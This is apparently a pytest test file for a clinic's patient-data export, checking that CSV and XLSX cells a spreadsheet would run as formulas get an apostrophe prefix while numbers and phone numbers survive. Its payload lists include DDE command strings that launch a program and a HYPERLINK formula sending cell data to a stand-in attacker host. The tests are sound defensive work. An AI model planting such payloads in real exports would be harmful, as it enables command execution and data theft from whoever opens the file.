"""Cells that a spreadsheet would run as a formula are neutralised in CSV and XLSX; numbers stay numbers."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from patients.export_formats import csv_chunks, neutralise, xlsx_chunks
from tests.exports.conftest import INJECTION
from tests.exports.helpers import csv_rows, run_streamed

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    INJECTION,
]
# A formula behind characters a reader may drop: a control character (not even
# allowed in a sheet's XML, so the XLSX writer removes it), a space, a zero-width space.
HIDDEN_FORMULAS = ['\x01=HYPERLINK("http://evil.example/?d="&C2,"Open")', " =1+1", "\u200b=1+1", "\x1b\x7f+1+1"]


@pytest.mark.parametrize("payload", PAYLOADS + HIDDEN_FORMULAS)
def test_it_prefixes_formula_text_with_an_apostrophe(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", [-1, -1.5, 0, 3, "-1", "+44", "plain text", "a=b", "", None, True])
def test_it_leaves_numbers_and_harmless_text_alone(value):
    assert neutralise(value) == value


def _body(chunks) -> bytes:
    return b"".join(chunks)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_it_neutralises_csv_cells(payload):
    body = _body(csv_chunks(["note", "score"], [[payload, -1]]))

    row = csv_rows(body)[0]
    assert row["note"] == "'" + payload
    assert row["score"] == "-1"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_it_neutralises_xlsx_cells_and_keeps_numbers_numeric(payload):
    body = _body(xlsx_chunks(["note", "score"], [[payload, -1]], title="Outcome log"))

    sheet = load_workbook(io.BytesIO(body)).active
    note, score = sheet["A2"], sheet["B2"]
    assert note.data_type == "s"  # text, not a formula
    assert note.value.startswith("'")
    # NUL cannot be stored in a sheet's XML, so it is dropped after the apostrophe
    # is added; XML parsers read a bare CR back as LF.
    assert note.value == "'" + payload.replace("\0", "").replace("\r", "\n")
    assert score.value == -1
    assert score.data_type == "n"


@pytest.mark.parametrize("phone", ["+44 20 7946 0000", "+1 (555) 010-0199", "+49 30/1234.567", "+33 6 12 34 56 78"])
def test_a_phone_number_is_text_as_written_in_xlsx_and_keeps_the_apostrophe_in_csv(phone):
    xlsx = load_workbook(io.BytesIO(_body(xlsx_chunks(["phone"], [[phone]], title="Recall list")))).active["A2"]
    csv_row = csv_rows(_body(csv_chunks(["phone"], [[phone]])))[0]

    assert (xlsx.value, xlsx.data_type, xlsx.quotePrefix) == (phone, "s", True)  # shown as written, kept as text
    assert csv_row["phone"] == "'" + phone  # CSV has no text mark: a spreadsheet would compute it


@pytest.mark.parametrize("lookalike", ["+44 20 HYPERLINK(1)", "+1+cmd|' /C calc'!A0", "+44 20 7946 0000,=1", "+"])
def test_text_that_only_starts_like_a_phone_number_keeps_the_apostrophe_in_xlsx(lookalike):
    cell = load_workbook(io.BytesIO(_body(xlsx_chunks(["phone"], [[lookalike]], title="Recall list")))).active["A2"]

    assert (cell.value, cell.data_type) == ("'" + lookalike, "s")


@pytest.mark.django_db
def test_it_neutralises_stored_notes_and_labels_in_a_real_export(auditor, clinic_a, outcome_data):
    arm = outcome_data.assessments[1].arm
    arm.label = "@left"
    arm.save()

    _export, body = run_streamed(auditor, clinic_a, identified=True)

    rows = {row["assessment_id"]: row for row in csv_rows(body)}
    noted = rows[str(outcome_data.assessments[1].pk)]
    assert noted["notes"] == "'" + INJECTION
    assert noted["arm"] == "'@left"
    assert noted["gais"] == "-1"
    assert rows[str(outcome_data.assessments[2].pk)]["notes"] == "'-2 points vs left"


@pytest.mark.django_db
def test_it_neutralises_a_real_xlsx_export(auditor, clinic_a, outcome_data):
    _export, body = run_streamed(auditor, clinic_a, identified=True, format="xlsx")

    sheet = load_workbook(io.BytesIO(body)).active
    header = [cell.value for cell in sheet[1]]
    rows = [dict(zip(header, (cell.value for cell in row), strict=True)) for row in sheet.iter_rows(min_row=2)]
    noted = next(row for row in rows if row["assessment_id"] == outcome_data.assessments[1].pk)
    assert noted["notes"] == "'" + INJECTION
    assert noted["gais"] == -1
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("payload", HIDDEN_FORMULAS)
def test_a_formula_behind_a_dropped_control_character_is_still_text_in_xlsx(payload):
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    body = _body(xlsx_chunks(["note"], [[payload]], title="Outcome log"))

    note = load_workbook(io.BytesIO(body)).active["A2"]
    assert note.data_type == "s"
    assert note.value == "'" + ILLEGAL_CHARACTERS_RE.sub("", payload)
    assert b"<f>" not in _sheet_xml(body)


def _sheet_xml(body: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(body)) as workbook:
        return workbook.read("xl/worksheets/sheet1.xml")
